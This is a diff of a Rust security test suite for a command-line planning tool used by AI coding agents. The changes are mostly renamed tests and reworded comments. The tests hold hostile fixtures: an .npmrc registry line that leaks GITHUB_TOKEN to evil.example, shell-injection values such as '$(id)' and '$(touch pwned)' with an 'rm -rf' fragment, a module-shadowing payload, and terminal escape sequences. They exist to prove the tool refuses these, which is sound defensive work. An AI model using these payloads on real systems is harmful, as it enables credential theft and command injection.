@@ -1,4 +1,4 @@
-//! A clone is not the user: what a repository brought is data, and nothing outside of it is touched or shown.
+//! A clone is not the user: what a repository brings is data, and nothing outside it is touched or shown.
 #![cfg(unix)]
 
 use std::os::unix::fs::symlink;
@@ -38,7 +38,8 @@ fn link(context: &TestContext, path: &str, to: impl AsRef<std::path::Path>) {
     symlink(to, path).unwrap();
 }
 
-/// Longer than any of these calls takes on a loaded machine. A call that waits for a pipe or reads a device waits for ever.
+/// Longer than any of these calls takes on a loaded machine. A call that waits for a pipe or reads a device waits for
+/// ever.
 const AT_ONCE: Duration = Duration::from_secs(60);
 
 /// Every event of the hooks, as a host would send it.
@@ -86,7 +87,7 @@ fn a_document_that_leads_out_is_neither_read_nor_written() {
 }
 
 #[test]
-fn no_file_is_made_where_a_link_of_a_clone_leads() {
+fn no_file_is_created_at_the_target_of_a_link_in_a_clone() {
     let (context, _) = clone_with(&[]);
     let new = context.home().join(".newrc");
     for (path, call) in [
@@ -140,7 +141,7 @@ fn pipes_and_devices_are_refused_at_once() {
 }
 
 #[test]
-fn what_is_too_large_to_be_a_document_is_refused_by_its_size() {
+fn a_file_too_large_for_a_document_is_refused_by_its_size() {
     let (context, _) = clone_with(&[]);
     std::fs::File::create(context.project().join(".planning/STATE.md")).unwrap().set_len(17 << 20).unwrap();
     let refused = context.gsd(["state", "json"]).failure(1);
@@ -173,7 +174,7 @@ fn a_planning_folder_elsewhere_works_once_a_person_trusts_it() {
     context.gsd(["state", "add-decision", "--phase", "1", "--summary", "kept elsewhere"]).success();
     assert!(std::fs::read_to_string(elsewhere.join("STATE.md")).unwrap().contains("kept elsewhere"));
 
-    // The word is about that place, and for no longer than a person lets it stand.
+    // The trust applies to that folder only, until a person revokes it.
     let other = context.home().join("other");
     std::fs::create_dir(&other).unwrap();
     link(&context, ".planning", &other);
@@ -186,7 +187,7 @@ fn a_planning_folder_elsewhere_works_once_a_person_trusts_it() {
 
 #[cfg(target_os = "linux")]
 #[test]
-fn a_folder_that_claims_to_be_a_worktree_gets_no_approval_of_the_repository_it_names() {
+fn a_folder_that_claims_to_be_a_worktree_does_not_get_the_approvals_of_that_repository() {
     let context = TestContext::new();
     let config = json!({"workflow": {"test_command": "touch ran"}}).to_string();
     context.write(".planning/config.json", &config);
@@ -221,7 +222,7 @@ fn a_link_within_the_project_is_a_document_like_any_other() {
     assert!(context.project().join(".planning/STATE.md").is_symlink());
 }
 
-/// Puts programs on the path that note where they run and what they are told.
+/// Puts programs on the path that record where they run and their environment.
 fn programs(context: &TestContext, scripts: &[(&str, &str)]) -> String {
     use std::os::unix::fs::PermissionsExt;
     let folder = context.home().join("bin");
@@ -235,9 +236,9 @@ fn programs(context: &TestContext, scripts: &[(&str, &str)]) -> String {
 }
 
 #[test]
-fn a_look_at_the_registry_takes_nothing_from_the_clone_and_no_key_along() {
+fn a_version_lookup_uses_no_settings_of_the_clone_and_sends_no_key() {
     let (context, _) = clone_with(&[(".npmrc", "registry=https://evil.example/${GITHUB_TOKEN}/\n")]);
-    // npm reads the settings of the folder it runs in, and puts variables into them.
+    // npm reads the settings of the folder it runs in, and inserts variables into them.
     let npm = "if [ -f .npmrc ]; then sed -n \"s/^registry=//; s/[$]{GITHUB_TOKEN}/$GITHUB_TOKEN/; p\" .npmrc | head -1; \
                else echo https://packages.example/; fi";
     let curl = "cat >> \"$HOME/told\"; printf '{\"version\":\"0.0.1\"}\\n200'";
@@ -257,7 +258,7 @@ fn a_look_at_the_registry_takes_nothing_from_the_clone_and_no_key_along() {
 }
 
 #[test]
-fn no_code_of_a_clone_runs_when_a_program_is_asked_for_its_version() {
+fn no_code_of_a_clone_runs_when_a_program_prints_its_version() {
     let (context, _) = clone_with(&[(".planning/config.json", r#"{"graphify":{"enabled":true}}"#)]);
     let evil = format!("open({:?}, 'w').write('x')\n", context.home().join("pwned"));
     for module in ["re.py", "csv.py", "email.py"] {
@@ -270,7 +271,7 @@ fn no_code_of_a_clone_runs_when_a_program_is_asked_for_its_version() {
 }
 
 #[test]
-fn questions_to_git_start_no_program_of_the_repository_and_leave_its_index_alone() {
+fn git_queries_start_no_program_of_the_repository_and_do_not_change_its_index() {
     let (context, _) = clone_with(&[(".planning/STATE.md", STATE)]);
     let git = |words: &[&str]| assert!(context.command("git").args(words).status().unwrap().success(), "{words:?}");
     let watch = context.home().join("watch.sh");
@@ -298,7 +299,7 @@ fn questions_to_git_start_no_program_of_the_repository_and_leave_its_index_alone
     }
     let _ = std::fs::remove_file(context.home().join("pwned"));
     let index = || std::fs::read(context.project().join(".git/index")).unwrap();
-    // The same bytes at another time: git would note the time in its index.
+    // The same bytes with another time: git would write the time into its index.
     std::fs::File::open(context.project().join(".planning/STATE.md"))
         .unwrap()
         .set_modified(std::time::SystemTime::now())
@@ -323,7 +324,7 @@ fn questions_to_git_start_no_program_of_the_repository_and_leave_its_index_alone
 }
 
 #[test]
-fn a_setting_gives_no_branch_that_a_shell_would_act_on() {
+fn a_setting_cannot_make_a_branch_name_that_a_shell_interprets() {
     let evil = "$(id)/{phase};rm -rf x --upload-pack=x";
     let config = json!({"git": {"branching_strategy": "phase", "phase_branch_template": evil, "base_branch": "`id`"}});
     let (context, _) = clone_with(&[(".planning/config.json", &config.to_string())]);
@@ -336,9 +337,9 @@ fn a_setting_gives_no_branch_that_a_shell_would_act_on() {
 }
 
 #[test]
-fn an_agent_gets_no_file_of_the_user_read_and_nobody_one_written() {
+fn an_agent_cannot_read_files_of_the_user_and_no_call_writes_them() {
     let (context, decoy) = clone_with(&[(".planning/STATE.md", STATE)]);
-    // The home of a test is in the folder for temporary files, which is open to agents.
+    // The home of a test is in the folder for temporary files, which agents may read.
     let folder = outside();
     let key = folder.path().join("id_rsa");
     std::fs::write(&key, "KEY").unwrap();
@@ -379,12 +380,19 @@ fn an_agent_gets_no_file_of_the_user_read_and_nobody_one_written() {
     let temporary = context.temporary().join("notes.txt");
     std::fs::write(&temporary, "kept for a moment").unwrap();
     decision(temporary.to_str().unwrap(), &agent).success();
+    if cfg!(target_os = "linux") {
+        for (pipe, text) in [("/dev/stdin", "one"), ("/dev/fd/0", "two"), ("/proc/self/fd/0", "three")] {
+            let call = ["state", "add-decision", "--phase", "1", "--summary-file", pipe];
+            context.gsd_with(call, &agent, text).success();
+            assert!(context.read(".planning/STATE.md").contains(text), "{pipe}");
+        }
+    }
     decision(key, &[]).success();
     assert_eq!(std::fs::read_to_string(&decoy).unwrap(), STATE);
 }
 
 #[test]
-fn a_manifest_that_came_with_a_clone_moves_nothing_of_the_users() {
+fn a_manifest_in_a_clone_moves_no_file_of_the_user() {
     let (context, decoy) = clone_with(&[]);
     let settings = context.home().join(".claude/settings.json");
     std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
@@ -392,7 +400,7 @@ fn a_manifest_that_came_with_a_clone_moves_nothing_of_the_users() {
     std::fs::write(&settings, own).unwrap();
     let notes = context.home().join("notes.txt");
     std::fs::write(&notes, "mine\n").unwrap();
-    // Written by another user's install of the same program, then changed to say what suits a stranger.
+    // Written by another user's install of the same program, then changed as an attacker would.
     let other = TestContext::new();
     other.gsd(["install", "--claude", "--local"]).success();
     let manifest = other.read(".claude/gsd-file-manifest.json");
@@ -441,11 +449,11 @@ fn an_install_in_a_project_follows_no_link_out_of_it() {
 }
 
 #[test]
-fn an_install_that_a_team_committed_becomes_the_users_by_what_it_holds() {
+fn an_install_committed_by_a_team_becomes_the_users_if_its_content_matches() {
     let (context, _) = clone_with(&[(".claude/settings.local.json", "{\n  \"model\": \"opus\"\n}\n")]);
     let git = |words: &[&str]| assert!(context.command("git").args(words).status().unwrap().success(), "{words:?}");
     context.gsd(["install", "--claude", "--local"]).success();
-    // Somebody else's computer: it has the files, and not the notes.
+    // Another person's computer: it has the files, but not our notes.
     std::fs::remove_dir_all(context.home().join(".local/state/gsd-tools")).unwrap();
     git(&["init", "-q", "-b", "main"]);
     git(&["add", "-f", "."]);
@@ -467,7 +475,7 @@ fn an_install_that_a_team_committed_becomes_the_users_by_what_it_holds() {
 }
 
 #[test]
-fn an_agent_cannot_silence_its_guards_and_a_script_can() {
+fn an_agent_cannot_disable_its_guards_and_a_script_can() {
     let (context, _) = clone_with(&[]);
     context.gsd(["install", "--claude", "--global"]).success();
     for agent in [("CLAUDECODE", "1"), ("GEMINI_CLI", "1"), ("CODEX_THREAD_ID", "x")] {
@@ -499,12 +507,12 @@ fn an_agent_keeps_its_notes_in_a_home_outside_the_temporary_folder() {
 }
 
 #[test]
-fn an_agent_writes_nothing_that_other_programs_take_orders_from() {
+fn an_agent_writes_no_file_that_other_programs_take_commands_from() {
     let (context, _) = clone_with(&[(".planning/STATE.md", STATE)]);
     let files = [".git/hooks/pre-commit", "build.sh", ".claude/settings.json", ".github/x.md", ".planning/w/.envrc"];
     for file in files {
         context.write(file, "#!/bin/sh\nexit 0\n");
-        // Some hosts' variables could be emptied on the line of a call.
+        // The variables of some hosts could be emptied on the command line.
         for agent in [("CLAUDECODE", "1"), ("QWEN_CODE", "")] {
             let set = ["frontmatter", "set", file, "--field", "x", "--value", "$(touch pwned)"];
             let refused = context.gsd_with(set, &[agent], "").failure(77);
@@ -528,7 +536,7 @@ fn an_agent_writes_nothing_that_other_programs_take_orders_from() {
 }
 
 #[test]
-fn a_setting_puts_nothing_that_a_shell_would_act_on_into_a_path() {
+fn a_setting_puts_nothing_that_a_shell_interprets_into_a_path() {
     let (context, _) = clone_with(&[]);
     let config = json!({"project_code": "../../$(touch pwned)", "planning": {"sub_repos": ["$(id)", "a;id"]}});
     context.write(".planning/config.json", &config.to_string());
@@ -559,7 +567,7 @@ fn a_person_sees_the_whole_command_of_a_gate() {
 
 #[cfg(target_os = "linux")]
 #[test]
-fn an_approval_is_of_one_repository_and_not_of_the_next_at_its_path() {
+fn an_approval_does_not_apply_to_another_repository_at_the_same_path() {
     let (context, _) = clone_with(&[]);
     let config = json!({"workflow": {"test_command": "touch ran"}}).to_string();
     let lay = || {
@@ -578,7 +586,7 @@ fn an_approval_is_of_one_repository_and_not_of_the_next_at_its_path() {
 
 #[cfg(target_os = "linux")]
 #[test]
-fn nothing_of_a_clone_moves_the_cursor_of_a_terminal() {
+fn no_text_of_a_clone_moves_the_cursor_of_a_terminal() {
     let roadmap = "# Roadmap\n\n## Phases\n\n- [ ] **Phase 1: A\u{1b}[2J\u{202e}B** - x\n\n### Phase 1: A\u{1b}[2J\u{202e}B\n**Goal**: y\n";
     let (context, _) =
         clone_with(&[(".planning/ROADMAP.md", roadmap), (".planning/config.json", "{\"bad\\u001b[2Jkey\": 1}")]);
